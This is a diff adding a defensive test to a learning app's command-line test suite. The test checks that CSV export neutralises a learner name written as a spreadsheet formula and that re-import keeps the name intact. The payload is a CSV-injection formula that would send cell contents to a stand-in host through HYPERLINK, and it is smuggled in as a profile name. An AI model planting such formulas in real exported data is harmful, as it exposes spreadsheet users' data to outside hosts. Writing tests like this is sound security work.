@@ -6,6 +6,7 @@ import { SettingsStore } from '../../../electron/core/store/settings.ts';
 import { Profiles } from '../../../electron/core/learner/profiles.ts';
 import { ProgressStore } from '../../../electron/core/learner/progress-store.ts';
 import { CLASSROOM, syntheticAttemptsCsv } from '../../../electron/core/learner/synthetic-attempts.ts';
+import { parseAttemptsCsv } from '../../../electron/core/learner/attempts-csv.ts';
 import { modelCommand } from '../../../electron/cli/commands/model.ts';
 import { tempDir } from './fixtures.ts';
 
@@ -135,5 +136,49 @@ describe('lantern model', () => {
     const unknown = await run(['evaluate', '--attempts', 'ada.csv', '--track', 'klingon'], env, out);
     expect(unknown.code).toBe(1);
     expect(unknown.err).toMatch(/There is no track "klingon"\. Tracks: .*python/);
+  });
+
+  it('export-attempts writes a name a spreadsheet would run as text; evaluate reads it back unchanged', async () => {
+    const data = tempDir('lantern-data-');
+    const { db } = openDatabase(path.join(data, 'lantern.db'));
+    const profiles = new Profiles(db, new SettingsStore(db));
+    const formula = '=HYPERLINK("http://example.com/?q="&A1,"Ada")';
+    const progress = new ProgressStore(db);
+    const at = Date.UTC(2026, 2, 1, 9);
+    for (const name of ['Ada', formula]) {
+      const base = {
+        profileId: profiles.create(name).id,
+        track: 'python',
+        exercise: 'count-vowels',
+      } as const;
+      progress.insertAttempt({ ...base, kind: 'check', status: 'fail', testsPassed: 1, testsTotal: 4, at });
+      progress.insertAttempt({
+        ...base,
+        kind: 'check',
+        status: 'pass',
+        testsPassed: 4,
+        testsTotal: 4,
+        at: at + 1,
+      });
+    }
+    db.close();
+    const out = tempDir('lantern-out-');
+    const env = { LANTERN_DATA_DIR: data };
+    expect((await run(['export-attempts', '--profile', 'Ada', '--out', 'ada.csv'], env, out)).code).toBe(0);
+    expect((await run(['export-attempts', '--profile', formula, '--out', 'f.csv'], env, out)).code).toBe(0);
+    const text = fs.readFileSync(path.join(out, 'f.csv'), 'utf8');
+    const rows = text.trimEnd().split('\n').slice(1);
+    expect(rows).toHaveLength(2);
+    // The cell a spreadsheet reads starts with ', so it shows the name instead of running it.
+    for (const row of rows)
+      expect(row.startsWith(`"'=HYPERLINK(""http://example.com/?q=""&A1,""Ada"")"`)).toBe(true);
+    expect([...parseAttemptsCsv(text)].map((a) => a.learner)).toEqual([formula, formula]);
+    // The replay is the same as for the same attempts under a plain name.
+    const evaluate = (file: string) =>
+      run(['evaluate', '--attempts', file, '--track', 'python', '--json'], env, out);
+    const [plain, guarded] = [await evaluate('ada.csv'), await evaluate('f.csv')];
+    expect(guarded.err).toBe('');
+    expect(JSON.parse(guarded.out)).toEqual(JSON.parse(plain.out));
+    expect(JSON.parse(guarded.out).attempts).toBe(2);
   });
 });
